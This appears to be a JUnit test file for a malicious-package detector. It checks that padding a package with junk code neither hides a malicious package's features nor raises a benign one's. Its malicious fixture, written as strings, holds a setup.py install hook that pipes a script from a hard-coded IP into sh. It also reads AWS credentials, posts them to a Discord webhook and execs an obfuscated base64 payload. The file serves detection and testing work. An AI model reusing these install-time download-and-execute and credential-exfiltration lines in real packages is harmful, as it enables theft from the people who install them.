package dev.fang.featurize.features;

import static dev.fang.featurize.features.Fixtures.lines;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import org.junit.jupiter.api.Test;

/**
 * Dead-code padding (functions full of +, =, brackets, IPs, popular URLs, whitespace, extra files) must not
 * lower what makes a malicious package stand out, and must not raise the suspicious features of a benign one.
 */
class PaddingTest {

    static final PackageFeaturizer FEATURIZER = new PackageFeaturizer();

    /** Families whose values only measure size or density: padding may move them (documented). */
    static final Set<Family> SIZE_FAMILIES = Set.of(Family.SHAPE, Family.OPERATORS, Family.PARSE);
    /** Per-file identifier statistics: diluted by padding inside the same file (documented). */
    static final Set<String> DILUTABLE = Set.of("identifier_class_entropy_max", "identifier_entropy_max",
            "identifier_length_mean_max");
    /** Seed-style raw counts that junk strings can raise (the strong variants below them cannot). */
    static final Set<String> RAW_COUNTS = Set.of("ip_public_distinct", "url_distinct", "string_entropy_max",
            "string_class_entropy_max");

    static String junk(int lines, long seed) {
        Random r = new Random(seed);
        String[] urls = {"https://www.google.com/search?q=python", "https://github.com/psf/requests",
            "https://docs.python.org/3/", "https://pypi.org/project/numpy/", "https://stackoverflow.com/questions"};
        String[] ips = {"8.8.4.4", "93.184.216.34", "151.101.1.69", "140.82.112.3"};
        StringBuilder sb = new StringBuilder();
        int n = 0;
        int f = 0;
        while (n < lines) {
            sb.append("\n\ndef _unused_").append(seed).append('_').append(f++).append("(a, b):\n");
            sb.append("    x = a + b + [1, 2, 3][0] + (a * ").append(r.nextInt(9)).append(") - b\n");
            sb.append("    y = [x, x + 1, [x + 2, {").append(r.nextInt(99)).append(": x}]]\n");
            sb.append("    host = '").append(ips[r.nextInt(ips.length)]).append("'\n");
            sb.append("    link = '").append(urls[r.nextInt(urls.length)]).append("'\n");
            sb.append("    total = 0\n    for i in range(").append(r.nextInt(50)).append("):\n");
            sb.append("        total = total + i * x + y[0] - (i % 3)\n");
            sb.append("    return [total, host, link, y]\n");
            n += 11;
        }
        return sb.toString();
    }

    static PackageContents malicious(boolean padded) {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("demo-1.0/setup.py", lines(
                "import os, base64",
                "from setuptools import setup",
                "from setuptools.command.install import install",
                "class PostInstall(install):",
                "    def run(self):",
                "        install.run(self)",
                "        os.system('curl -s http://185.62.13.77:8080/x.sh | sh')",
                "setup(name='demo', version='1.0', cmdclass={'install': PostInstall})"));
        m.put("demo-1.0/demo/__init__.py", lines(
                "import os, platform, requests, getpass",
                "import base64 as b",
                "info = {'u': getpass.getuser(), 'h': platform.node(), 'k': open(os.path.expanduser('~/.aws/credentials')).read()}",
                "requests.post('https://discord.com/api/webhooks/1/abc', json=info)",
                "exec(b.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgnd2hvYW1pJykK'))",
                "O0O0O0O0 = getattr(__import__('o' + 's'), 'sys' + 'tem')",
                "O0O0O0O0('id')"));
        if (padded) {
            m.replaceAll((p, c) -> c + junk(500, p.hashCode()));
            for (int i = 0; i < 5; i++) {
                m.put("demo-1.0/demo/_pad" + i + ".py", junk(500, i));
            }
        }
        return Fixtures.pkg(m);
    }

    static PackageContents benign(boolean padded) {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("demo-1.0/setup.py", lines(
                "from setuptools import setup, find_packages",
                "setup(name='demo', version='1.0', packages=find_packages())"));
        m.put("demo-1.0/demo/__init__.py", lines(
                "import json, logging",
                "log = logging.getLogger(__name__)",
                "def load(path):",
                "    with open(path) as f:",
                "        return json.load(f)"));
        if (padded) {
            m.replaceAll((p, c) -> c + junk(500, p.hashCode()));
            for (int i = 0; i < 5; i++) {
                m.put("demo-1.0/demo/_pad" + i + ".py", junk(500, i));
            }
        }
        return Fixtures.pkg(m);
    }

    @Test
    void paddingDoesNotLowerTheFeaturesOfAMaliciousPackage() {
        FeatureResult plain = FEATURIZER.featurize(malicious(false));
        FeatureResult padded = FEATURIZER.featurize(malicious(true));
        assertThat(padded.partial()).isFalse();
        for (Feature f : FeatureCatalogue.features()) {
            if (SIZE_FAMILIES.contains(f.family()) || DILUTABLE.contains(f.base())) {
                continue;
            }
            assertThat(padded.value(f.name())).as(f.name()).isGreaterThanOrEqualTo(plain.value(f.name()));
        }
        // what makes it stand out is there in the first place
        for (String f : List.of("install_hook_cmdclass", "install_hook_install_subclasses", "install_sus_download_exec",
                "install_ip_endpoints", "import_sus_exfil_services", "import_sus_credentials", "import_beh_info_stealing",
                "import_beh_exfiltration", "import_dec_payloads", "import_beh_obfuscated_execution",
                "import_apiobf_dynamic_import", "import_machine_identifiers")) {
            assertThat(plain.value(f)).as(f).isPositive();
        }
    }

    @Test
    void extraPaddingFilesDoNotMoveTheOperatorStatistics() {
        Map<String, String> m = new LinkedHashMap<>();
        m.put("demo/__init__.py", lines("import os", "os.system('id')", "x = 'a' + 'b'"));
        FeatureResult plain = FEATURIZER.featurize(Fixtures.pkg(m));
        for (int i = 0; i < 5; i++) {
            m.put("demo/_pad" + i + ".py", junk(500, i));
        }
        FeatureResult padded = FEATURIZER.featurize(Fixtures.pkg(m));
        for (Feature f : FeatureCatalogue.family(Family.OPERATORS)) {
            assertThat(padded.value(f.name())).as(f.name()).isEqualTo(plain.value(f.name()));
        }
        assertThat(padded.value("import_parse_quality_min")).isEqualTo(plain.value("import_parse_quality_min"));
        assertThat(padded.value("import_whitespace_share_min")).isLessThanOrEqualTo(plain.value("import_whitespace_share_min"));
    }

    @Test
    void paddingDoesNotRaiseTheSuspiciousFeaturesOfABenignPackage() {
        FeatureResult plain = FEATURIZER.featurize(benign(false));
        FeatureResult padded = FEATURIZER.featurize(benign(true));
        for (Feature f : FeatureCatalogue.features()) {
            if (SIZE_FAMILIES.contains(f.family()) || f.family() == Family.ENTROPY || RAW_COUNTS.contains(f.base())
                    || f.base().equals("ext_py")) {
                continue;
            }
            assertThat(padded.value(f.name())).as(f.name()).isEqualTo(plain.value(f.name()));
        }
        assertThat(padded.value("import_high_entropy_strings")).isZero();
        assertThat(padded.value("import_machine_identifiers")).isZero();
    }
}
